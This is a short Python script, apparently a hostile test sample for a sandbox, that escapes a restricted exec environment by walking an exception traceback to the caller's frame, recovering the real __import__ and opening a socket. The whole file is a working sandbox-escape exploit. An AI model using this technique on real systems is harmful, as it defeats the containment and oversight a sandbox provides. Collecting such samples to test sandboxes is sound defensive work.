# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: exception traceback -> tb_frame.f_back.f_builtins['__import__']('socket')
# naive exec: escapes: the caller's frame holds the real builtins
try:
    1 / 0
except ZeroDivisionError as exc:
    frame = exc.__traceback__.tb_frame.f_back
real_import = frame.f_builtins["__import__"]
sock = real_import("socket").socket()
result = "ESCAPED " + repr(sock)
sock.close()
